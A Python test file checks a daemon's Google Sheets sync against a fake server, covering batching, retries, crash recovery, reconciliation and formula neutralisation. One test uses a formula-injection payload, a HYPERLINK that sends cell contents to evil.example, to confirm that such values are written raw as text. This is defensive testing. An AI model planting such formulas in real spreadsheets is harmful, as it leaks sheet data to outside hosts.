"""The daemon's sheets through gspread, unmodified, to the fake Sheets server, on both databases.

Approved cases are made through the models and `workflow.advance`; the sheets' sync is
driven as the watcher's sweep drives it (`tick`) or flushed directly; time is the
desk's ManualClock, also the fake server's, so quotas are counted on it.
"""
from __future__ import annotations

from datetime import timedelta

from sqlalchemy import func, select

from daemon.db import transaction
from daemon.models import OutboxEntry, OutboxStatus
from daemon.sheets.sync import SHEET
from daemon.cases.workflow import Trigger
from integrations.sheets.values import neutralise
from tests.sheets.helpers import (FINAL_DAY, KEY, DiesAfterWrite, Killed, approve_cases, by_key, expected_billing,
                                  fresh_sync, google_backend, move, sheets_only_bus)

CHECKLIST = ["pending"] * 5


def statuses(desk) -> dict[str, int]:
    with transaction(desk.factory) as session:
        rows = session.execute(select(OutboxEntry.status, func.count()).where(OutboxEntry.kind == SHEET)
                               .group_by(OutboxEntry.status)).all()
    return {status.value: count for status, count in rows}


def writes_in_any_minute(server) -> int:
    times = sorted(r.at for r in server.requests if r.kind == "write")
    return max((sum(1 for u in times if t <= u < t + 60) for t in times), default=0)


# Each approved case queues six rows: two billing items, then its offboarding and planner
# rows once approved and again once offboarding starts (their status changes).


def test_a_burst_of_1000_approvals_gives_the_right_rows_in_few_polite_writes(desk, server, sync):
    bus = sheets_only_bus(sync)
    writes_per_flush = []
    for first in range(0, 1000, 40):
        approve_cases(desk, bus, range(first, first + 40))
        before = server.count("write")
        sync.tick()
        writes_per_flush.append(server.count("write") - before)
        desk.clock.advance(timedelta(seconds=1))
    billing = by_key(server.values(KEY, "Billing"), 2)
    assert len(billing) == 2000
    for i in (0, 1, 517, 999):
        for row in expected_billing(i):
            assert billing[tuple(row[:2])] == row
    offboarding = by_key(server.values(KEY, "Offboarding"), 1)
    assert offboarding[("CX-T-00517",)] == ["CX-T-00517", "Client 517", FINAL_DAY.isoformat(),
                                            "too expensive (price)", "amy@agency.example", "offboarding",
                                            *CHECKLIST]
    planner = by_key(server.values(KEY, "Planner"), 1)
    assert planner[("CX-T-00999",)] == ["CX-T-00999", "ACC-0999", "Client 999", "cancel", FINAL_DAY.isoformat(), "",
                                        "too expensive (price)", "offboarding"]
    assert len(offboarding) == len(planner) == 1000
    # The first flush also creates the three worksheets, their headers and their look
    # (frozen header, widths, date and amount formats: one request a sheet); after that
    # one batch write per sheet, and a grid resize now and then as the billing sheet grows.
    assert writes_per_flush[0] <= 12 and max(writes_per_flush[1:]) <= 5, writes_per_flush
    assert writes_in_any_minute(server) <= 60
    assert statuses(desk) == {"sent": 6000}


def test_injected_errors_and_a_write_that_landed_but_failed_leave_no_duplicate(desk, server, sync):
    bus = sheets_only_bus(sync)
    approve_cases(desk, bus, range(10))
    sync.flush()
    approve_cases(desk, bus, range(10, 30))
    server.fail_next(2, 429, only="write")
    server.apply_then_fail_next(1, 500)     # the rows land, the answer says they did not
    server.fail_next(1, 503, only="write")
    assert sync.flush().error == ""         # retried inside the backend, written in place
    approve_cases(desk, bus, range(30, 40))
    server.apply_then_fail_next(1, 502)
    server.fail_next(4, 503, only="write")  # ... and then every retry fails: the entries wait
    assert "gave up" in sync.flush().error
    assert statuses(desk) == {"sent": 180, "pending": 60}
    assert len(server.values(KEY, "Billing")) == 81          # written, though not known to be
    desk.clock.advance(timedelta(minutes=1))
    sync.tick()
    billing = by_key(server.values(KEY, "Billing"), 2)
    assert len(billing) == 80
    assert billing[("ACC-0035", "B-35-1")] == expected_billing(35)[0]
    assert statuses(desk) == {"sent": 240}


def test_killed_after_the_write_landed_but_before_marking_the_next_start_writes_no_second_row(
        desk, server, google):
    dying = fresh_sync(desk, DiesAfterWrite(google))
    bus = sheets_only_bus(dying)
    approve_cases(desk, bus, range(25))
    try:
        dying.flush()
    except Killed:
        pass
    else:
        raise AssertionError("the backend should have been killed mid-flush")
    assert len(server.values(KEY, "Billing")) == 51          # the rows landed ...
    assert statuses(desk) == {"pending": 150}                 # ... and nothing was marked
    restarted = fresh_sync(desk, google_backend(desk, server))
    approve_cases(desk, sheets_only_bus(restarted), range(25, 30))
    restarted.flush()
    billing = by_key(server.values(KEY, "Billing"), 2)
    assert len(billing) == 60
    assert billing[("ACC-0003", "B-3-2")] == expected_billing(3)[1]
    assert len(by_key(server.values(KEY, "Offboarding"), 1)) == 30
    assert statuses(desk) == {"sent": 180}


def test_a_formula_looking_reason_is_written_raw_and_stays_text(desk, server, sync):
    bus = sheets_only_bus(sync)
    reason = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    approve_cases(desk, bus, [7], reason=reason)
    approve_cases(desk, bus, [8], reason="+1 555 0100 then @channel - see notes")
    sync.flush()
    assert server.formulas() == []
    planner = by_key(server.values(KEY, "Planner"), 1)
    assert planner[("CX-T-00007",)][6] == neutralise(f"{reason} (price)") == f"'{reason} (price)"
    assert planner[("CX-T-00008",)][6].startswith("'+1 555")
    writes = [r for r in server.requests if r.kind == "write" and r.path.endswith("values:batchUpdate")]
    assert writes and {r.body["valueInputOption"] for r in writes} == {"RAW"}


def test_reconcile_restores_a_deleted_row_and_undoes_an_edit(desk, server, sync):
    bus = sheets_only_bus(sync)
    approve_cases(desk, bus, range(5))
    sync.flush()
    billing_before = server.values(KEY, "Billing")
    server.delete_row(KEY, "Billing", 3)                              # ACC-0001's SEO row
    server.set_row(KEY, "Planner", 2, ["CX-T-00000", "ACC-0000", "cancel", "2099-01-01"])
    results = sync.reconcile()
    assert (results["billing"].restored, results["planner"].edited) == (1, 1)
    assert by_key(server.values(KEY, "Billing"), 2) == by_key(billing_before, 2)
    assert by_key(server.values(KEY, "Planner"), 1)[("CX-T-00000",)][4] == FINAL_DAY.isoformat()
    again = sync.reconcile()
    assert (again["billing"].restored, again["billing"].write_calls) == (0, 0)


def test_a_google_outage_of_several_minutes_loses_nothing_and_keeps_the_order(desk, server, sync):
    bus = sheets_only_bus(sync)
    approve_cases(desk, bus, range(10))
    sync.tick()
    server.outage(True)
    approve_cases(desk, bus, range(10, 20))
    move(desk, bus, "CX-T-00003", Trigger.CLOSED)       # an update to a row already written ...
    for _ in range(20):                                  # ... and nine minutes of trying
        desk.clock.advance(timedelta(seconds=27))
        sync.tick()
    assert statuses(desk) == {"sent": 60, "pending": 64}
    move(desk, bus, "CX-T-00012", Trigger.WITHDRAWN)    # a later change to a row still waiting
    server.outage(False)
    desk.clock.advance(timedelta(minutes=5))
    sync.tick()
    billing = by_key(server.values(KEY, "Billing"), 2)
    assert len(billing) == 40
    assert billing[("ACC-0003", "B-3-1")] == expected_billing(3, status="stopped")[0]
    assert billing[("ACC-0012", "B-12-2")] == expected_billing(12, status="withdrawn", stop="")[1][:5] + \
        ["", "CX-T-00012", "withdrawn"]
    assert billing[("ACC-0017", "B-17-1")] == expected_billing(17)[0]
    assert statuses(desk) == {"sent": 128}
    assert "failed" not in statuses(desk)


def test_a_pause_sets_no_stop_date_and_plans_the_resume(desk, server, sync):
    bus = sheets_only_bus(sync)
    approve_cases(desk, bus, [41], pause=True)
    sync.flush()
    billing = by_key(server.values(KEY, "Billing"), 2)
    assert billing[("ACC-0041", "B-41-1")] == ["ACC-0041", "B-41-1", "Client 41", "SEO", 141, "", "CX-T-00041",
                                               "paused until 2027-04-30"]
    planner = by_key(server.values(KEY, "Planner"), 1)
    assert planner[("CX-T-00041",)][3:6] == ["pause", desk.clock.now().date().isoformat(), "2027-04-30"]
    assert "Offboarding" not in [sheet.title for sheet in server.books[KEY]["sheets"]]   # nothing to offboard
    move(desk, bus, "CX-T-00041", Trigger.RESUMED)
    sync.flush()
    assert by_key(server.values(KEY, "Billing"), 2)[("ACC-0041", "B-41-2")][5:] == ["", "CX-T-00041", "resumed"]
